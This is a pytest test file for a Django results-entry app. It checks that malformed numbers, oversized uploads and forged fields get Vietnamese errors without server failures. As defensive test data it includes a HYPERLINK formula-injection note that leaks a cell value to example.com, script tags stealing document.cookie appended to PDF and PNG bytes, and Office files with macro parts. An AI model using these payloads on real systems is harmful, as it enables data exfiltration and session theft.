"""Odd input on the entry page, its check and its workbook answers a Vietnamese message, never a 500, and writes
nothing; what a reporter wrote comes back in the workbook as text, never as a formula (issue 18)."""

import io
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from chitieu.results.models import Evidence, ImportJob, Observation
from chitieu.results.tests.test_entry import PDF

TOO_MANY_DECIMALS = "1,1234567"
TOO_BIG = "9.999.999.999.999.999.999"


@pytest.fixture
def reporting(client, reporter, entry, frozen):
    client.force_login(reporter)
    return client


def entry_url(entry):
    return reverse("results:entry", args=[entry.period.pk, entry.world.yen_ninh.pk])


def field(entry, name):
    return f"i{entry.income_indicator.pk}-{name}"


@pytest.mark.parametrize(
    ("typed", "message"),
    [
        (TOO_MANY_DECIMALS, "chỉ được tối đa 6"),
        (TOO_BIG, "phần nguyên có 19 chữ số, chỉ được tối đa 17"),
        ("1" * 59, "chỉ được tối đa 17"),
    ],
)
def test_the_entry_page_says_the_allowed_form_of_a_number_and_writes_nothing(
    reporting, entry, typed, message
):
    response = reporting.post(
        entry_url(entry), {field(entry, "value"): typed, field(entry, "note"): "ghi chú"}
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Observation.objects.exists()


def test_a_number_that_fits_exactly_is_saved(reporting, entry):
    response = reporting.post(
        entry_url(entry),
        {field(entry, "value"): "99.999.999.999.999.999,999999", field(entry, "note"): "rất lớn"},
    )
    assert response.status_code == 302
    saved = Observation.objects.get().value  # read back without error, also from SQLite's float
    assert abs(saved - Decimal("99999999999999999.999999")) <= 16


@pytest.mark.parametrize(
    ("typed", "message"),
    [
        (TOO_MANY_DECIMALS, "chỉ được tối đa 6"),
        (TOO_BIG, "chỉ được tối đa 17"),
        ("1E+400", "Không đọc được"),
        ("NaN", "Không đọc được"),
        ("9" * 60, "chỉ được tối đa 17"),
        ("99.999.999.999.999.999,999999", ""),
    ],
)
def test_the_check_shows_the_rule_not_a_python_exception(reporting, entry, typed, message):
    url = reverse("results:check", args=[entry.period.pk, entry.world.yen_ninh.pk, entry.income_indicator.pk])
    response = reporting.post(url, {field(entry, "value"): typed})
    page = response.content.decode()
    assert response.status_code == 200
    assert message in page
    assert "<class" not in page and "InvalidOperation" not in page


def upload(client, entry, data: bytes, name="so-lieu.xlsx"):
    return client.post(
        reverse("results:upload", args=[entry.period.pk, entry.world.yen_ninh.pk]),
        {"workbook": SimpleUploadedFile(name, data)},
        follow=True,
    )


def filled_template(client, entry, value) -> bytes:
    response = client.get(reverse("results:workbook", args=[entry.period.pk, entry.world.yen_ninh.pk]))
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["Số liệu"]
    row = next(r for r in sheet.iter_rows(min_row=5) if r[2].value == "thu-nhap-binh-quan")
    row[7].value = value
    row[9].value = "ghi chú"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def messages(response):
    return [str(m) for m in response.context["messages"]]


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (TOO_MANY_DECIMALS, "chỉ được tối đa 6"),
        (TOO_BIG, "chỉ được tối đa 17"),
        (Decimal("0.1234567"), "chỉ được tối đa 6"),
        (10**30, "chỉ được tối đa 17"),
    ],
)
def test_the_workbook_upload_names_the_cell_and_the_allowed_form(reporting, entry, value, message):
    response = upload(reporting, entry, filled_template(reporting, entry, value))
    assert response.status_code == 200
    assert any("cột H (Giá trị)" in m and message in m for m in messages(response)), messages(response)
    assert not Observation.objects.exists()


def test_a_workbook_over_the_upload_limit_is_refused_before_it_is_read_or_kept(reporting, entry, settings):
    settings.CHITIEU_UPLOAD_MAX_BYTES = 1024 * 1024
    response = upload(reporting, entry, b"PK\x03\x04" + b"\0" * (2 * 1024 * 1024))
    assert any("quá giới hạn 1 MB" in m for m in messages(response)), messages(response)
    assert not Observation.objects.exists()
    assert not ImportJob.objects.exists()  # nothing stored, not even the file


def test_a_note_written_as_a_formula_comes_back_as_text_and_round_trips(reporting, entry):
    note = '=HYPERLINK("http://example.com/?x="&A1,"Bấm vào đây")'
    reporting.post(entry_url(entry), {field(entry, "value"): "45", field(entry, "note"): note})
    assert Observation.objects.get().note == note
    response = reporting.get(reverse("results:workbook", args=[entry.period.pk, entry.world.yen_ninh.pk]))
    sheet = load_workbook(io.BytesIO(response.content))["Số liệu"]
    row = next(r for r in sheet.iter_rows(min_row=5) if r[2].value == "thu-nhap-binh-quan")
    assert row[9].data_type == "s" and row[9].value == "'" + note
    out = io.BytesIO()
    sheet.parent.save(out)
    upload(reporting, entry, out.getvalue())
    assert Observation.objects.get().note == note  # the quote the file added is not kept


def test_a_control_character_in_a_target_name_does_not_break_the_workbook(reporting, entry):
    entry.income.name = "Thu nhập\x0bbình quân\x01"
    entry.income.save()
    response = reporting.get(reverse("results:workbook", args=[entry.period.pk, entry.world.yen_ninh.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Số liệu"]
    row = next(r for r in sheet.iter_rows(min_row=5) if r[2].value == "thu-nhap-binh-quan")
    assert row[3].value == "Thu nhập\nbình quân"


def office_file(name: str, extra: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(name, "<x/>")
        for part, content in extra.items():
            archive.writestr(part, content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("so-lieu.xlsx", office_file("xl/workbook.xml", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("bao-cao.docx", office_file("word/document.xml", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("bao-cao.pdf", PDF + b"<html><body><script>alert(document.cookie)</script></body></html>"),
        ("anh.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100 + b"<SCRIPT>alert(1)</SCRIPT>"),
    ],
)
def test_evidence_with_macros_or_hidden_html_is_refused_by_its_content(reporting, entry, name, content):
    response = reporting.post(entry_url(entry), {"evidence": SimpleUploadedFile(name, content)}, follow=True)
    assert response.status_code == 200
    assert "macro hay mã HTML/script" in response.content.decode()
    assert not Evidence.objects.exists()


def test_a_missing_evidence_file_answers_a_vietnamese_404(reporting, entry):
    reporting.post(entry_url(entry), {"evidence": SimpleUploadedFile("bien-ban.pdf", PDF)})
    evidence = Evidence.objects.get()
    evidence.file.storage.delete(evidence.file.name)
    response = reporting.get(reverse("results:evidence", args=[evidence.pk]))
    assert response.status_code == 404


@pytest.mark.parametrize("versions", ["²=abc", "١=x;9" + "9" * 5000 + "=y", "n=;=;;"])
def test_a_forged_versions_field_is_ignored_not_a_500(reporting, entry, versions):
    response = reporting.post(
        entry_url(entry),
        {field(entry, "value"): "45", field(entry, "note"): "ghi chú", field(entry, "versions"): versions},
    )
    assert response.status_code in (200, 302)
